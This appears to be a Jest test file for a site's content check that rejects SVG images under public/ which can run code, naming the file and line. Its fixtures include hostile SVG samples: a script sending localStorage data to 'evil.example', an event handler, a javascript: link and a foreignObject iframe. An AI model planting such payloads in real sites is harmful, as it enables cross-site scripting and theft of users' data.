/**
 * @jest-environment node
 *
 * content:check reads every SVG under public/, at any depth: a picture passes, an image that can
 * run code fails with its file named. The real public/ folder passes.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contentCollections } from '@/lib/content/all';
import { contentCheckReport } from '@/lib/content/checkReport';
import { displayPath } from '@/lib/content/core';
import { checkPublicSvgs, findUnsafeSvgs } from '@/lib/content/publicSvgs';
import { messagesOf } from './problems';

const picture = (inside: string) => `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n${inside}\n</svg>\n`;
const hostile = {
  script: picture('<script>fetch("https://evil.example/?" + localStorage.key(0))</script>'),
  'event handler': picture('<rect width="10" height="10" onmouseover="alert(1)"/>'),
  'javascript: address': picture('<a href="  JAVASCRIPT:alert(1)"><rect width="10" height="10"/></a>'),
  foreignObject: picture('<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>'),
};

let [project, publicDir] = ['', ''];
beforeEach(() => {
  project = fs.mkdtempSync(path.join(os.tmpdir(), 'public-svgs-'));
  publicDir = path.join(project, 'public');
  fs.mkdirSync(path.join(publicDir, 'images/sponsors/old'), { recursive: true });
  fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), picture('<circle cx="5" cy="5" r="4" fill="#336"/>'));
  fs.writeFileSync(path.join(publicDir, 'images/notes.txt'), '<script>not an image</script>');
});
afterEach(() => fs.rmSync(project, { recursive: true, force: true }));

describe('SVG images under public/', () => {
  it('lets a picture pass', () => {
    expect(findUnsafeSvgs(publicDir)).toEqual([]);
  });

  it.each(Object.entries(hostile))('refuses an image holding a %s, naming the file and the line', (_, svg) => {
    const file = path.join(publicDir, 'images/sponsors/old/logo.svg');
    fs.writeFileSync(file, svg);
    expect(findUnsafeSvgs(publicDir)).toEqual([expect.objectContaining({ file: displayPath(file), line: 2 })]);
  });

  it('tells the officer what was found, why it matters and what to do', () => {
    fs.writeFileSync(path.join(publicDir, 'logo.SVG'), hostile.script);
    const [line] = contentCheckReport(findUnsafeSvgs(publicDir), 'content', false).errors.slice(1);
    expect(line).toBe(
      `  ${displayPath(path.join(publicDir, 'logo.SVG'))}:2: this image holds a <script> element: code in an image opened on this site can read members' sign-in. Export the SVG again without scripts or interactive parts (a plain or optimised SVG), or use a PNG or WebP image instead`,
    );
  });

  it("fails content:check with the path from the project's folder", () => {
    fs.writeFileSync(path.join(publicDir, 'images/sponsors/lab.svg'), hostile.foreignObject);
    const cwd = process.cwd();
    process.chdir(project);
    try {
      expect(messagesOf(checkPublicSvgs)).toEqual([
        expect.stringMatching(/^public\/images\/sponsors\/lab\.svg:2: this image holds a <foreignObject>/),
      ]);
    } finally {
      process.chdir(cwd);
    }
    expect(contentCollections.map((c) => c.load)).toContain(checkPublicSvgs);
  });

  it('passes on the real public/ folder', () => {
    expect(findUnsafeSvgs()).toEqual([]);
  });
});
